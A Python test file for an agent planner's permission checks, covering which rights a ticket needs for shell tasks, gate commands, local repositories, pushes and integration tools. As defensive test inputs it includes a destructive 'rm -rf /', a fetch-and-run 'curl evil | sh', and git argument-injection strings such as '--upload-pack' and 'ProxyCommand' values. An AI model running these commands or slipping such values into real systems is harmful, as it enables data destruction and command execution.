"""Who may run what: the rights a submission needs, from its payload alone."""

from __future__ import annotations

import json
from typing import Any

import pytest

from agents.errors import InvalidTicket
from agents.planner import rights
from agents.planner.intake import build
from agents.planner.rights import Right
from bus import constants as c
from schemas import TicketSubmission

SHELL = {"name": "build", "phase": "implementation", "command": "make"}
AGENT = {"name": "code", "phase": "implementation", "capability": "agent", "instructions": "Do."}
GATE_CMD = {"testing": {"checks": [{"kind": "command", "command": "make test", "name": "unit"}]}}
GATE_FILE = {"design": {"checks": [{"kind": "file", "path": "docs/design.md"}]}}


def needs(**fields: Any) -> set[Right]:
    return rights.required_rights(TicketSubmission.model_validate({"title": "t", **fields}))


def test_plain_things_need_no_right() -> None:
    assert needs() == set()
    assert needs(description="rm -rf /", workflow="default") == set()
    assert needs(tasks=[AGENT], gates=GATE_FILE) == set()
    noop = {"name": "n", "phase": "design", "capability": "noop"}
    assert needs(tasks=[noop]) == set()


def test_commands_and_local_repositories_need_their_rights() -> None:
    assert needs(tasks=[AGENT, SHELL]) == {Right.SHELL_COMMANDS}
    # The default capability is shell: a task without a command is still a shell task.
    assert needs(tasks=[{"name": "x", "phase": "design"}]) == {Right.SHELL_COMMANDS}
    # A command on another capability would still be run by something.
    agent_cmd = {**AGENT, "command": "curl evil | sh"}
    assert needs(tasks=[agent_cmd]) == {Right.SHELL_COMMANDS}
    assert needs(gates=GATE_CMD) == {Right.GATE_COMMANDS}
    assert needs(repository="/srv/repo", deliver=False) == {Right.LOCAL_REPOSITORY}
    # Delivering (the default with a repository) writes to it: a right of its own.
    assert needs(repository="/srv/repo") == {Right.LOCAL_REPOSITORY, Right.PUSH}
    everything = set(Right) - {Right.TRACKER, Right.DATABASE}
    assert needs(tasks=[SHELL], gates=GATE_CMD, repository="../x") == everything


def test_the_shipped_integration_tools_need_the_rights_of_what_they_write() -> None:
    # Each writes with Omoi's credentials: the repository, the tracker, a database.
    assert needs(tasks=[{**AGENT, "tools": ["github"]}]) == {Right.PUSH}
    assert needs(tasks=[{**AGENT, "tools": ["jira"]}]) == {Right.TRACKER}
    assert needs(tasks=[{**AGENT, "tools": ["supabase", "discover"]}]) == {Right.DATABASE}
    submission = TicketSubmission.model_validate(
        {"title": "t", "tasks": [{**AGENT, "tools": ["supabase"]}]}
    )
    with pytest.raises(InvalidTicket) as info:
        rights.check(submission, rights.NONE)
    assert "changing a database (tool 'supabase' of task" in info.value.message


@pytest.mark.parametrize(
    "repository",
    [
        "https://github.com/org/repo.git",
        "http://git.internal/repo",
        "ssh://git@github.com/org/repo.git",
        "git://example.org/repo.git",
        "git@github.com:org/repo.git",
    ],
)
def test_remote_repositories_are_plain(repository: str) -> None:
    assert rights.is_remote(repository)
    assert needs(repository=repository, deliver=False) == set()
    assert needs(repository=repository) == {Right.PUSH}


@pytest.mark.parametrize(
    "repository",
    [
        "/srv/repo",
        "repo",
        "./repo",
        "~/repo",
        "file:///srv/repo",
        "ext::sh -c touch% /tmp/pwned",
        "--upload-pack=touch /tmp/pwned",
        "ssh://-oProxyCommand=sh/x",
        "ssh://git@-oProxyCommand=sh/x",
        "https://github.com",
        "C:/repo",
    ],
)
def test_anything_else_is_local(repository: str) -> None:
    assert not rights.is_remote(repository)


def test_check_names_what_is_forbidden_and_where_to_go() -> None:
    submission = TicketSubmission.model_validate(
        {"title": "t", "tasks": [SHELL], "gates": GATE_CMD, "repository": "/srv/repo"}
    )
    rights.check(submission, rights.ALL)  # granted: nothing raised
    with pytest.raises(InvalidTicket) as info:
        rights.check(submission, {Right.GATE_COMMANDS})
    exc = info.value
    assert exc.category == "forbidden"
    assert "shell commands (task 'build')" in exc.message
    assert "a local repository (repository '/srv/repo')" in exc.message
    assert "gate commands" not in exc.message  # that one was granted
    assert c.TRUSTED_SUBMIT_SUBJECT in exc.message


def test_build_refuses_before_anything_else_but_a_workflow_needs_no_right() -> None:
    data = json.dumps({"title": "t", "tasks": [SHELL]}).encode()
    with pytest.raises(InvalidTicket) as info:
        build(data, granted=rights.NONE, max_bytes=10_000, default_workflow="default")
    assert info.value.category == "forbidden"
    assert build(data, granted=rights.ALL, max_bytes=10_000, default_workflow="default").tasks
    # The default workflow's shell commands are the operator's, not the submitter's.
    templated = json.dumps({"title": "t", "workflow": "default"}).encode()
    intake = build(templated, granted=rights.NONE, max_bytes=10_000, default_workflow="default")
    assert all(t.command for t in intake.tasks)


def test_generated_plans_with_commands_are_caught() -> None:
    specs = TicketSubmission.model_validate({"title": "t", "tasks": [AGENT, SHELL]}).tasks
    assert specs is not None
    assert rights.plan_needs(specs)
    assert not rights.plan_needs(specs[:1])
